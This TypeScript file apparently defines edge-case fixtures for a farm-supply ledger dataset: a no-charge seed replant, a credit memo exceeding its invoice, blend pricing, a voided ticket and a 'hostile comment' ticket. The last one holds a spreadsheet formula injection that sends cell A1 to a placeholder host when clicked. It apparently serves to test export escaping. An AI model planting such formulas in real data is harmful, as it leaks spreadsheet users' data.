import { applyCredit } from '../book';
import { openDay, plusDays } from '../calendar';
import { type DraftLine, take } from '../draft';
import { MICRO } from '../exact';
import { blendLines } from '../visits/fertility';
import type { Edge } from './edge';

/** Seed replaced without charge: listed, never payable, not in the ledger. */
export const zeroTotal =
  (accountNo: string): Edge =>
  ({ storyEnd, account, ticket }) => {
    const { homeBranch, fields } = account(accountNo);
    ticket(accountNo, {
      date: openDay(plusDays(storyEnd, -33)),
      branch: homeBranch,
      ticketNo: 'T700000',
      comments: 'Replant, no charge',
      lines: [take('CANOLA', 4 * MICRO, { field: fields[0], discountMicro: MICRO, lotNo: '26R40221' })],
    });
  };

/** A credit memo that is larger than the one invoice it can be set against. */
export const creditOverInvoice =
  (accountNo: string): Edge =>
  ({ storyEnd, account, ticket, when }) => {
    const branch = account(accountNo).homeBranch;
    const date = plusDays(storyEnd, -2);
    const small = ticket(accountNo, {
      date: plusDays(storyEnd, -9),
      branch,
      ticketNo: 'T700312',
      left: true,
      lines: [take('GLOVES', 3 * MICRO), take('BOOTS', MICRO)],
    });
    const memo = ticket(accountNo, {
      date,
      branch,
      docType: 'C',
      ticketNo: 'T700313',
      comments: `Return of unopened seed; applied to ${small.no}`,
      left: true,
      lines: [take('WHT50', -48 * MICRO, { lotNo: '25A11907' })],
    });
    when(accountNo, { date, happen: () => applyCredit(memo, small) });
  };

/** A blend and its seven components, priced on one side only: once on the blend, once on the components. */
export const blends =
  (accountNo: string): Edge =>
  ({ storyEnd, account, random, ticket }) => {
    for (const [days, priceOnParent] of [
      [-15, true],
      [-44, false],
    ] as const) {
      const date = openDay(plusDays(storyEnd, days));
      const scene = { account: account(accountNo), date, random };
      ticket(accountNo, {
        date,
        branch: account(accountNo).homeBranch,
        ticketNo: priceOnParent ? 'T700007' : 'T700008',
        lines: blendLines(scene, priceOnParent),
      });
    }
  };

/** Entered twice and taken back: zero amounts, still listed. */
export const voided =
  (accountNo: string): Edge =>
  ({ storyEnd, account, ticket }) => {
    const text: DraftLine = { lineType: 'X', description: 'Entered twice, void' };
    const draft = {
      date: openDay(plusDays(storyEnd, -40)),
      branch: account(accountNo).homeBranch,
      lines: [text],
    };
    ticket(accountNo, { ...draft, voided: true, comments: 'Void: entered twice' });
  };

/** A comment that a spreadsheet would run, freight on the header and a tax that belongs to no line. */
export const hostileComment =
  (accountNo: string): Edge =>
  ({ storyEnd, ticket }) => {
    ticket(accountNo, {
      date: openDay(plusDays(storyEnd, -18)),
      branch: 'LEW',
      ticketNo: 'T700666',
      freight: 4_250,
      headerTaxRate: 12_500,
      comments: '=HYPERLINK("http://example.com/?a="&A1,"Click here")',
      lines: [
        take('TWINE', 12 * MICRO),
        { lineType: 'X', description: 'Pallet, shrink-wrapped\nfork "B", bay 2' },
      ],
    });
  };
